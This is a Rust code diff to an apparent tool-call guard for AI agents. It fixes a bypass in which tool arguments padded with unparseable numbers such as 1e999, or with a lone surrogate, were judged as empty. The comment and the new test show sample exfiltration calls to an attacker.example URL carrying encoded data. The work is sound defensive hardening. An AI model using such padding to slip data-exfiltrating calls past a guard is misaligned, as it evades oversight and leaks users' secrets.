@@ -183,19 +183,48 @@ impl Guard {
         self.guardrails.as_ref()
     }
 
-    fn args(&self, call: &ToolCall, needed: bool) -> Value {
+    /// The call's arguments as a value, when something reads them. Arguments that parse as JSON
+    /// text but not as values (a number past f64's range like `1e999`, which JavaScript reads as
+    /// `Infinity`; a lone surrogate escape) are never judged as something else (they were judged
+    /// as `{}`, so `{"url": "https://attacker/?d=…", "pad": 1e999}` reached the checker empty —
+    /// found by the `jsonrpc` fuzz target): such a call is denied.
+    fn args(&self, call: &ToolCall, needed: bool) -> Result<Value, Decision> {
         match call.args.as_deref() {
-            Some(a) if needed => {
-                serde_json::from_str(a.get()).unwrap_or_else(|_| Value::Object(Default::default()))
-            }
-            _ => Value::Object(Default::default()),
+            Some(a) if needed => serde_json::from_str(a.get()).map_err(|e| Decision {
+                effect: Effect::Deny,
+                rule: "unreadable arguments".into(),
+                scope: Scope::Builtin,
+                reason: format!(
+                    "its arguments are JSON the proxy cannot read as values ({e}), so what the tool \
+                     would receive cannot be judged"
+                ),
+                prefilter: None,
+            }),
+            _ => Ok(Value::Object(Default::default())),
         }
     }
 
     /// Layer 1's decision for a call, as `portcullis check` reports it.
     pub fn decide(&self, call: &ToolCall) -> Decision {
-        let args = self.args(call, self.engine.needs_args(&call.qualified));
-        self.engine.decide(&call.upstream, &call.qualified, &args)
+        match self.args(call, self.engine.needs_args(&call.qualified)) {
+            Ok(args) => self.engine.decide(&call.upstream, &call.qualified, &args),
+            Err(unreadable) => unreadable,
+        }
+    }
+
+    fn denied(call: &ToolCall, d: Decision) -> Outcome {
+        Outcome::Refuse(Denial {
+            reason: format!(
+                "portcullis denied {}: {} (rule {}, scope {}). The call was not sent.",
+                call.qualified,
+                d.reason,
+                d.rule,
+                d.scope.as_str()
+            ),
+            rule: d.rule,
+            outcome: CallOutcome::Denied,
+            ask: None,
+        })
     }
 
     /// The pre-call outcome. With no approval channel yet, `ask` is refused ("headless"), with a
@@ -206,8 +235,13 @@ impl Guard {
         let checker = self.guardrails.as_ref().filter(|g| g.covers(&call.qualified, kind, Phase::Pre));
         // Parsed once, and only when Layer 1 or a guardrail rule reads them.
         let parsed = checker.is_some() || self.engine.needs_args(&call.qualified);
-        let args = self.args(call, parsed);
-        let d = self.engine.decide(&call.upstream, &call.qualified, &args);
+        let (args, d) = match self.args(call, parsed) {
+            Ok(args) => {
+                let d = self.engine.decide(&call.upstream, &call.qualified, &args);
+                (args, d)
+            }
+            Err(unreadable) => (Value::Null, unreadable),
+        };
         self.metrics.rule_decision(d.effect, d.scope);
         let scope = d.scope.as_str();
         match d.effect {
@@ -225,19 +259,18 @@ impl Guard {
                     })),
                 },
             },
-            Effect::Deny => Outcome::Refuse(Denial {
-                reason: format!(
-                    "portcullis denied {}: {} (rule {}, scope {scope}). The call was not sent.",
-                    call.qualified, d.reason, d.rule
-                ),
-                rule: d.rule,
-                outcome: CallOutcome::Denied,
-                ask: None,
-            }),
+            Effect::Deny => Self::denied(call, d),
             Effect::Ask => Outcome::Refuse(Denial {
                 ask: Some(Box::new(Ask {
                     tool: call.qualified.clone(),
-                    args: canonical_json(&if parsed { args } else { self.args(call, true) }),
+                    // A waiver is keyed by these: unreadable arguments are never keyed as `{}`.
+                    args: canonical_json(&match parsed {
+                        true => args,
+                        false => match self.args(call, true) {
+                            Ok(args) => args,
+                            Err(unreadable) => return Self::denied(call, unreadable),
+                        },
+                    }),
                     reason: d.reason.clone(),
                     source: if d.scope == Scope::Builtin { Source::Floor } else { Source::Configured },
                     session: call.session.clone(),
@@ -332,6 +365,32 @@ pub(crate) mod tests {
         let Outcome::Refuse(d) = g.pre(&call("other")) else { panic!("no rule: ask, headless: refused") };
         assert_eq!(d.outcome, CallOutcome::AskRefused);
         assert!(d.reason.contains("headless"), "{}", d.reason);
+    }
+
+    #[test]
+    fn arguments_that_are_json_but_not_values_are_denied_never_judged_as_empty() {
+        // Servers read these (JavaScript: `Infinity`, a lone UTF-16 unit); serde cannot.
+        let g = guard(
+            "guardrails: { checker: local, rules: [{ match: \"mcp__*\", phases: [pre] }] }\n\
+             permissions: { allow: [\"mcp__*\"] }\n",
+        );
+        for args in [
+            r#"{"url":"https://attacker.example/?d=c2VjcmV0","pad":1e999}"#,
+            r#"{"url":"https://attacker.example/","n":-9e99999}"#,
+            r#"{"text":"\ud800 exfiltrate"}"#,
+        ] {
+            let raw = serde_json::value::RawValue::from_string(args.to_owned()).unwrap();
+            let call = ToolCall::mcp("web".into(), "fetch", Some(&raw), Era::Legacy);
+            let Outcome::Refuse(d) = g.pre(&call) else { panic!("{args} was not refused") };
+            assert_eq!(d.outcome, CallOutcome::Denied, "{args}");
+            assert!(d.reason.contains("unreadable arguments"), "{}", d.reason);
+        }
+        // Readable arguments go on as before.
+        let raw =
+            serde_json::value::RawValue::from_string(r#"{"url":"https://example.com/","n":1e308}"#.into())
+                .unwrap();
+        let call = ToolCall::mcp("web".into(), "fetch", Some(&raw), Era::Legacy);
+        assert!(!matches!(g.pre(&call), Outcome::Refuse(_)));
     }
 
     #[test]
